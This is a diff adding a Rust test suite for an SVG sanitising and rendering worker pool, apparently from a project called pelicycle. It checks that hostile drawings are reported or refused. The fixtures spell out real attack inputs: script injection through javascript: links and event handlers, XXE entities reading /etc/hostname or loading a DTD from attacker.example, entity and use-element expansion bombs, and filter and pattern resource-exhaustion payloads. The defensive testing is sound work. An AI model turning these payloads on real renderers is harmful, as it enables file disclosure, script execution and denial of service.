@@ -1,0 +1,460 @@
+//! Every known threat, through a real worker: each must get an answer, in time, and the right one.
+
+use std::time::{Duration, Instant};
+
+use pelicycle_drawing::{Bounds, Options, Pool};
+use pelicycle_record::{Inspection, Verdict};
+
+use crate::WORKER;
+
+fn pool() -> Pool {
+    let bounds = Bounds { seconds: 4.0, ..Bounds::default() };
+    Pool::with_program(WORKER, 2, Options { raster: 800, bounds })
+}
+
+fn svg(inside: &str) -> String {
+    format!(
+        "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\" \
+         viewBox=\"0 0 100 100\">{inside}<rect width=\"9\" height=\"9\" fill=\"teal\"/></svg>"
+    )
+}
+
+fn look(text: &str) -> Inspection {
+    let started = Instant::now();
+    let inspection = pool().inspect(text.as_bytes(), 800).expect("a worker");
+    assert!(started.elapsed() < Duration::from_secs(9), "{:?} for {:.80}", started.elapsed(), text);
+    inspection
+}
+
+fn codes(inspection: &Inspection) -> Vec<&str> {
+    inspection.check.findings.iter().map(|finding| finding.code.as_str()).collect()
+}
+
+/// The drawing is drawn in spite of the threat, with these findings.
+#[track_caller]
+fn draws(text: &str, expected: &[&str]) -> Inspection {
+    let inspection = look(text);
+    assert_eq!(inspection.check.verdict, Verdict::Drawn, "{:?}", inspection.check.findings);
+    for code in expected {
+        assert!(codes(&inspection).contains(code), "{code} is not in {:?}", inspection.check.findings);
+    }
+    inspection
+}
+
+/// The drawing is refused with the bound named.
+#[track_caller]
+fn refuses(text: &str, bound: &str) {
+    let inspection = look(text);
+    assert_eq!(inspection.check.verdict, Verdict::Refused, "{:?}", inspection.check.findings);
+    let limit = inspection.check.findings.iter().find(|finding| finding.code == "resource-limit");
+    let limit = limit.unwrap_or_else(|| panic!("no resource-limit in {:?}", inspection.check.findings));
+    assert!(limit.message.contains(bound), "{bound} is not named: {}", limit.message);
+    assert!(inspection.png.is_none());
+    assert!(!inspection.check.candidates.is_empty(), "the candidates survive");
+}
+
+/// Addresses that were blocked, in order.
+fn blocked(inspection: &Inspection) -> Vec<&str> {
+    let findings = inspection.check.findings.iter().filter(|finding| finding.code == "external-ref-blocked");
+    findings.map(|finding| finding.message.as_str()).collect()
+}
+
+#[test]
+fn t01_script_is_reported_and_never_kept_as_svg() {
+    let text = svg("<script>f()</script><a href=\"javascript:f()\"><rect onclick=\"f()\"/></a>");
+    let inspection = draws(&text, &["active-content"]);
+    assert!(inspection.active);
+    assert!(!draws(&svg(""), &[]).active);
+    for inside in [
+        "<a href=\" java&#10;script:f()\"><rect/></a>",
+        "<set attributeName=\"onclick\" to=\"f()\"/>",
+        "<animate attributeName=\"xlink:href\" values=\"javascript:f()\"/>",
+        "<foreignObject><iframe xmlns=\"http://www.w3.org/1999/xhtml\" src=\"x\"/></foreignObject>",
+        "<rect ONLOAD=\"f()\"/>",
+    ] {
+        assert!(look(&svg(inside)).active, "{inside}");
+    }
+}
+
+#[test]
+fn t02_to_t05_pictures_from_outside_are_blocked_and_listed() {
+    let text = svg("<image href=\"https://attacker.example/t.png\" width=\"9\" height=\"9\"/>\
+         <image xlink:href=\"/etc/passwd\" width=\"9\" height=\"9\"/>\
+         <image href=\"/dev/zero\" width=\"9\" height=\"9\"/>\
+         <filter id=\"f\"><feImage href=\"../scan.png\"/></filter><rect filter=\"url(#f)\" width=\"5\" height=\"5\"/>");
+    let inspection = draws(&text, &["external-ref-blocked"]);
+    assert_eq!(
+        blocked(&inspection),
+        ["https://attacker.example/t.png", "/etc/passwd", "/dev/zero", "../scan.png"]
+    );
+}
+
+#[test]
+fn t06_references_that_no_resolver_sees_are_listed() {
+    let text = format!(
+        "<?xml-stylesheet href=\"https://a.example/s.css\"?>{}",
+        svg(
+            "<style>@import url(https://b.example/i.css);@font-face{src:url('https://c.example/f.woff')}</style>\
+             <use href=\"https://d.example/s.svg#a\"/><rect width=\"5\" height=\"5\" fill=\"url(https://e.example/p.svg#g)\"/>\
+             <rect style=\"fill:url('//f.example/q.svg#g')\"/>"
+        )
+    );
+    let inspection = draws(&text, &["external-ref-blocked"]);
+    let mut found = blocked(&inspection);
+    found.sort_unstable();
+    let expected = [
+        "//f.example/q.svg#g",
+        "https://a.example/s.css",
+        "https://b.example/i.css",
+        "https://c.example/f.woff",
+        "https://d.example/s.svg#a",
+        "https://e.example/p.svg#g",
+    ];
+    assert_eq!(found, expected);
+}
+
+#[test]
+fn t07_an_svg_in_a_data_url_is_searched_too() {
+    let inner = "%3Csvg xmlns='http://www.w3.org/2000/svg' width='9' height='9'%3E%3Cimage href='/etc/passwd'/%3E%3C/svg%3E";
+    let inspection = draws(
+        &svg(&format!("<image href=\"data:image/svg+xml,{inner}\" width=\"9\" height=\"9\"/>")),
+        &["embedded-image"],
+    );
+    assert_eq!(blocked(&inspection), ["/etc/passwd"]);
+}
+
+#[test]
+fn t08_to_t10_entity_declarations_are_refused() {
+    let bodies = [
+        "<!ENTITY x SYSTEM \"file:///etc/hostname\">".to_owned(),
+        "<!ENTITY a \"lol\"><!ENTITY b \"&a;&a;&a;\">".to_owned(),
+        format!("<!ENTITY a \"{}\">", "x".repeat(20_000)),
+        "<!ENTITY % p SYSTEM \"https://attacker.example/x.dtd\">%p;".to_owned(),
+    ];
+    for body in bodies {
+        let inspection = look(&format!("<!DOCTYPE svg [{body}]>{}", svg("<text>&x;&a;</text>")));
+        assert_eq!(inspection.check.verdict, Verdict::Refused, "{body:.60}");
+        assert!(codes(&inspection).contains(&"dtd-refused"), "{body:.60}");
+    }
+    let harmless = "<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\">";
+    draws(&format!("<?xml version=\"1.0\"?>\n{harmless}\n{}", svg("")), &[]);
+}
+
+/// `count` levels, each made of two or more copies of the one before.
+fn levels(count: usize, base: &str, level: impl Fn(usize) -> String) -> String {
+    let mut text = base.to_owned();
+    for n in 1..=count {
+        text.push_str(&level(n));
+    }
+    text
+}
+
+#[test]
+fn t11_a_bomb_of_use_is_counted() {
+    let text = levels(9, "<g id=\"u0\"><rect width=\"1\" height=\"1\"/></g>", |n| {
+        format!("<g id=\"u{n}\">{}</g>", format!("<use href=\"#u{}\"/>", n - 1).repeat(10))
+    });
+    refuses(&svg(&text), "bound elements");
+}
+
+#[test]
+fn t12_and_t13_filters_are_bounded() {
+    let filtered = |primitives: &str| {
+        svg(&format!(
+            "<filter id=\"f\">{primitives}</filter><rect width=\"100\" height=\"100\" filter=\"url(#f)\"/>"
+        ))
+    };
+    refuses(&filtered("<feTurbulence baseFrequency=\".9\" numOctaves=\"1000\"/>"), "octaves");
+    refuses(&filtered(&"<feGaussianBlur stdDeviation=\"12\"/>".repeat(100)), "filter_seconds");
+    refuses(&filtered("<feGaussianBlur stdDeviation=\"1000\"/>"), "filter_radius");
+    refuses(&filtered("<feMorphology radius=\"50\"/>"), "bound filter");
+    let kernel = "1 ".repeat(2500);
+    refuses(&filtered(&format!("<feConvolveMatrix order=\"50\" kernelMatrix=\"{kernel}\"/>")), "kernel");
+    draws(&filtered("<feGaussianBlur stdDeviation=\"2\"/><feOffset dx=\"2\"/>"), &[]);
+}
+
+#[test]
+fn t14_layers_that_live_at_once_are_bounded() {
+    let nested = |count: usize| {
+        let shape = "<rect x=\"-200\" y=\"-200\" width=\"500\" height=\"500\"/>";
+        svg(&format!("{}{shape}{}", "<g opacity=\".9\">".repeat(count), "</g>".repeat(count)))
+    };
+    refuses(&nested(200), "layer_pixels");
+    draws(&nested(3), &[]);
+}
+
+#[test]
+fn t15_patterns_in_patterns_are_counted() {
+    let nested = |count: usize| {
+        let text = levels(
+            count,
+            "<pattern id=\"p0\" width=\"9\" height=\"9\" patternUnits=\"userSpaceOnUse\"><rect width=\"5\" height=\"5\"/></pattern>",
+            |n| {
+                let shape = format!("<rect width=\"60\" height=\"60\" fill=\"url(#p{})\"/>", n - 1);
+                format!(
+                    "<pattern id=\"p{n}\" width=\"70\" height=\"70\" patternUnits=\"userSpaceOnUse\">{shape}{shape}</pattern>"
+                )
+            },
+        );
+        svg(&format!("{text}<rect width=\"100\" height=\"100\" fill=\"url(#p{count})\"/>"))
+    };
+    refuses(&nested(30), "bound");
+    refuses(&nested(12), "bound");
+    draws(&nested(2), &[]);
+}
+
+#[test]
+fn t15_patterns_that_a_style_sheet_names_are_counted() {
+    let text = levels(30, "<pattern id=\"p0\" width=\"1\" height=\"1\"/>", |n| {
+        let shape = format!("<rect class=\"c{}\" width=\"6\" height=\"6\"/>", n - 1);
+        format!(
+            "<style>.c{} {{ fill: url(#p{}) }}</style><pattern id=\"p{n}\" width=\"1\" height=\"1\">{shape}{shape}</pattern>",
+            n - 1,
+            n - 1
+        )
+    });
+    refuses(&svg(&format!("{text}<rect width=\"9\" height=\"9\" fill=\"url(#p30)\"/>")), "bound elements");
+}
+
+#[test]
+fn t16_masks_on_masks_are_counted() {
+    let text = levels(30, "<mask id=\"m0\"><rect width=\"50\" height=\"50\" fill=\"#fff\"/></mask>", |n| {
+        let shape = format!("<rect width=\"50\" height=\"50\" fill=\"#fff\" mask=\"url(#m{})\"/>", n - 1);
+        format!("<mask id=\"m{n}\">{shape}{shape}</mask>")
+    });
+    refuses(&svg(&format!("{text}<rect width=\"90\" height=\"90\" mask=\"url(#m30)\"/>")), "bound");
+    refuses(&svg(&format!("{text}<rect width=\"90\" height=\"90\" mask=\"url(#m10)\"/>")), "bound");
+}
+
+#[test]
+fn t17_a_giant_tile_is_refused() {
+    let text = "<pattern id=\"p\" width=\"1e7\" height=\"1e7\" patternUnits=\"userSpaceOnUse\"><rect width=\"5\" height=\"5\"/></pattern>\
+                <rect width=\"50\" height=\"50\" fill=\"url(#p)\"/>";
+    refuses(&svg(text), "tile_pixels");
+}
+
+#[test]
+fn t18_a_picture_is_bounded_by_its_header() {
+    // A PNG's signature and header say 20 000 x 20 000; there need not be more for the bound to hold.
+    let header = "iVBORw0KGgoAAAANSUhEUgAATiAAAE4gCAYAAAAAAAAA";
+    refuses(
+        &svg(&format!("<image href=\"data:image/png;base64,{header}\" width=\"9\" height=\"9\"/>")),
+        "image_pixels",
+    );
+}
+
+#[test]
+fn t19_path_data_is_bounded() {
+    let path: String = (0..200_000).map(|i| format!("L{} {}", i % 97, i % 89)).collect();
+    refuses(&svg(&format!("<path d=\"M0 0{path}\"/>")), "path_bytes");
+    let reused: String = (0..20_000).map(|i| format!("L{} {}", i % 97, i % 89)).collect();
+    let uses = "<use href=\"#p\"/>".repeat(50);
+    refuses(&svg(&format!("<path id=\"p\" d=\"M0 0{reused}\"/>{uses}")), "path_bytes");
+}
+
+#[test]
+fn t20_style_sheets_are_bounded_by_what_matching_costs() {
+    let sheet: String = (0..5_000).map(|i| format!(".a{i} .b .c .d{{fill:red}}")).collect();
+    let shapes = "<rect class=\"d\"/>".repeat(5_000);
+    refuses(&svg(&format!("<style>{sheet}</style>{shapes}")), "css_work");
+}
+
+#[test]
+fn t21_depth_and_chains_are_bounded() {
+    for (open, close) in [("<g>", "</g>"), ("<text><tspan>", "</tspan></text>")] {
+        refuses(&svg(&format!("{}{}", open.repeat(5_000), close.repeat(5_000))), "bound depth");
+    }
+    refuses(
+        &svg(&"<tspan>".repeat(20_000)).replace("</svg>", &("</tspan>".repeat(20_000) + "</svg>")),
+        "bound depth",
+    );
+    let chain = levels(5_000, "<clipPath id=\"c0\"><rect width=\"9\" height=\"9\"/></clipPath>", |n| {
+        format!(
+            "<clipPath id=\"c{n}\" clip-path=\"url(#c{})\"><rect width=\"9\" height=\"9\"/></clipPath>",
+            n - 1
+        )
+    });
+    refuses(
+        &svg(&format!("{chain}<rect width=\"9\" height=\"9\" clip-path=\"url(#c5000)\"/>")),
+        "reference_chain",
+    );
+}
+
+#[test]
+fn t22_nested_data_urls_are_bounded() {
+    let mut inner =
+        "<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'><rect width='9' height='9'/></svg>"
+            .to_owned();
+    for _ in 0..6 {
+        let encoded: String = inner.bytes().map(|b| format!("%{b:02X}")).collect();
+        inner = format!(
+            "<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'><image href='data:image/svg+xml,{encoded}'/></svg>"
+        );
+        if inner.len() > 400_000 {
+            break;
+        }
+    }
+    refuses(&inner, "image_depth");
+}
+
+#[test]
+fn t23_absurd_sizes_are_scaled_to_the_raster() {
+    let shape = "<rect width=\"100%\" height=\"100%\" fill=\"red\"/></svg>";
+    for size in
+        ["viewBox=\"0 0 1e9 1e9\"", "width=\"1e9\" height=\"1e9\"", "width=\"1000000\" height=\"0.001\""]
+    {
+        let text = format!("<svg xmlns=\"http://www.w3.org/2000/svg\" {size}>{shape}");
+        let inspection = draws(&text, &["size-clamped"]);
+        let png = inspection.png.expect("a picture");
+        let side = |at: usize| u32::from_be_bytes(png[at..at + 4].try_into().unwrap());
+        assert_eq!(side(16).max(side(20)), 800, "{size}");
+    }
+}
+
+#[test]
+fn t24_far_coordinates_do_no_harm() {
+    for data in ["M9 7v1h-28808594", "M0 0H1e38V1e38z", "M-3e38 0L3e38 1 3e38 -3e38z", "M0 0h1e-45v1e-45z"] {
+        let inspection =
+            look(&svg(&format!("<path d=\"{data}\" stroke=\"red\" stroke-dasharray=\"1e-9\"/>")));
+        assert!(matches!(inspection.check.verdict, Verdict::Drawn | Verdict::Refused), "{data}");
+    }
+}
+
+#[test]
+fn t26_html_in_a_drawing_is_reported() {
+    let text = svg(
+        "<foreignObject><iframe xmlns=\"http://www.w3.org/1999/xhtml\" src=\"https://attacker.example/\"/></foreignObject>",
+    );
+    let inspection = draws(&text, &["foreign-object-ignored", "active-content"]);
+    assert_eq!(blocked(&inspection), ["https://attacker.example/"]);
+}
+
+#[test]
+fn t27_control_characters_are_faults() {
+    let inspection = look(&svg("<text>\u{1b}[31m</text>"));
+    assert_eq!(inspection.check.verdict, Verdict::Malformed);
+    assert!(codes(&inspection).contains(&"bad-character"));
+}
+
+#[test]
+fn a_worker_that_is_killed_by_the_clock_leaves_what_it_knew() {
+    let bounds = Bounds { seconds: 0.2, filter_seconds: 1e9, octaves: 1e9, ..Bounds::default() };
+    let pool = Pool::with_program(WORKER, 1, Options { raster: 800, bounds });
+    let text = svg("<filter id=\"f\"><feTurbulence baseFrequency=\".1\" numOctaves=\"20\"/></filter>\
+         <rect width=\"100\" height=\"100\" filter=\"url(#f)\"/><image href=\"/etc/passwd\"/>");
+    let many = text.replace(
+        "</svg>",
+        &("<rect width=\"100\" height=\"100\" filter=\"url(#f)\"/>".repeat(20) + "</svg>"),
+    );
+    let inspection = pool.inspect(many.as_bytes(), 800).unwrap();
+    assert_eq!(inspection.check.verdict, Verdict::Refused, "{:?}", inspection.check.findings);
+    assert!(codes(&inspection).contains(&"resource-limit"));
+    assert_eq!(blocked(&inspection), ["/etc/passwd"]);
+    assert!(inspection.svg.is_some());
+    // Its successor serves.
+    assert_eq!(pool.inspect(svg("").as_bytes(), 100).unwrap().check.verdict, Verdict::Drawn);
+}
+
+#[test]
+fn a_worker_that_runs_out_of_memory_says_so() {
+    let bounds = Bounds { memory_bytes: 24 << 20, raster: 8192, ..Bounds::default() };
+    let pool = Pool::with_program(WORKER, 1, Options { raster: 8192, bounds });
+    let inspection = pool.inspect(svg("").as_bytes(), 8192).unwrap();
+    assert_eq!(inspection.check.verdict, Verdict::Refused);
+    let limit = inspection.check.findings.iter().find(|finding| finding.code == "resource-limit").unwrap();
+    assert!(limit.message.contains("memory_bytes"), "{}", limit.message);
+}
+
+#[test]
+fn a_program_that_is_no_worker_is_an_error() {
+    let pool = Pool::with_program("/nonexistent/pelicycle", 1, Options::default());
+    let error = pool.inspect(b"<svg/>", 100).unwrap_err();
+    assert!(error.to_string().contains("/nonexistent/pelicycle"), "{error}");
+}
+
+#[test]
+fn hostile_text_is_extracted_in_linear_time() {
+    let bound = Bounds::default().reply_bytes;
+    for piece in [
+        "<svg",
+        "<svg>",
+        "<svg/>",
+        "`",
+        "```\n",
+        "<!--",
+        "<svg><!--",
+        "<think>",
+        "</think>",
+        "&lt;svg",
+        "<svg a=\"",
+        "<a b='",
+        "<![CDATA[",
+        "<?",
+        "<!DOCTYPE [",
+        "</svg>",
+        "<svg></svg>",
+        "~~~svg\n<svg>",
+        "\u{0}",
+        "<svg a=\\\"",
+        "&",
+        "<a",
+        "<svg><a>",
+    ] {
+        let text = piece.repeat(bound / piece.len());
+        let inspection = look(&text);
+        assert_ne!(inspection.check.verdict, Verdict::Drawn, "{piece:?}");
+        assert!(
+            !inspection.check.findings.iter().any(|f| f.message.contains("bound seconds")),
+            "{piece:?} takes too long"
+        );
+    }
+}
+
+#[test]
+fn a_reply_over_the_bound_is_refused_unread() {
+    let text = " ".repeat(Bounds::default().reply_bytes + 1);
+    let inspection = look(&text);
+    assert_eq!(inspection.check.verdict, Verdict::Refused);
+    assert!(inspection.check.findings[0].message.contains("reply_bytes"));
+}
+
+#[test]
+fn many_threads_share_a_pool() {
+    let pool = pool();
+    std::thread::scope(|scope| {
+        for _ in 0..6 {
+            scope.spawn(|| {
+                for _ in 0..5 {
+                    assert_eq!(pool.inspect(svg("").as_bytes(), 200).unwrap().check.verdict, Verdict::Drawn);
+                }
+            });
+        }
+    });
+}
+
+/// Ctrl-C at a terminal goes to the whole group; a worker in it would leave a false verdict behind.
+#[cfg(target_os = "linux")]
+#[test]
+fn a_worker_is_not_in_the_group_that_an_interrupt_reaches() {
+    let pool = pool();
+    assert_eq!(pool.inspect(svg("").as_bytes(), 50).unwrap().check.verdict, Verdict::Drawn);
+    let me = std::process::id();
+    let stat = |pid: u32| std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap_or_default();
+    let fields = |stat: &str| -> Vec<u32> {
+        let rest = stat.rsplit_once(')').map_or("", |(_, rest)| rest);
+        rest.split_whitespace().skip(1).take(2).filter_map(|field| field.parse().ok()).collect()
+    };
+    let mine = fields(&stat(me));
+    let children = || -> Vec<Vec<u32>> {
+        let entries = std::fs::read_dir("/proc").unwrap().flatten();
+        let all = entries.filter_map(|entry| entry.file_name().to_str()?.parse().ok());
+        all.map(|pid: u32| fields(&stat(pid))).filter(|fields| fields.first() == Some(&me)).collect()
+    };
+    // A worker that another test is just starting leaves the group on its way from fork to exec.
+    let left = (0..100).any(|_| {
+        std::thread::sleep(std::time::Duration::from_millis(10));
+        let children = children();
+        !children.is_empty() && children.iter().all(|fields| fields[1] != mine[1])
+    });
+    assert!(left, "{:?} {mine:?}", children());
+}
